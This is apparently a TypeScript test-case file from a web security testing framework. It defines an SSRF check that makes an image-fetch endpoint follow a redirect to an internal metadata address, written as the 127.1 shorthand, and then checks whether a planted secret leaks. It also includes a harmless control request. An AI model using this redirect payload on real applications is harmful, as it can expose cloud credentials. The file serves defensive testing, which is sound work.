import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Has the application follow a redirect to the inside. */
export const ssrfImageRedirect: Attack = defineAttack({
  id: 'ssrf-image-redirect',
  class: 'ssrf',
  title: 'Has the application follow a redirect to the inside',
  cwe: 918,
  capec: 664,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) => {
    const inside = encodeURIComponent(sink.url('metadata', 'localhost'))
    return visitor.get(`/api/image${query({ url: sink.url(`redirect?to=${inside}`, '127.1') })}`)
  },
  oracle: (answer, { sink }) =>
    sink.hits().some((hit) => hit.path === 'metadata') && answer.text.includes(sink.secret),
  twin: ({ visitor }) =>
    visitor.get(`/api/image${query({ url: 'https://pictures.supplier.invalid/tents/ridgeline.jpg' })}`),
  // The supplier does not exist; what counts is that the application may try.
  twinServed: (answer) => answer.status === 502 && answer.text.includes('could not fetch'),
})
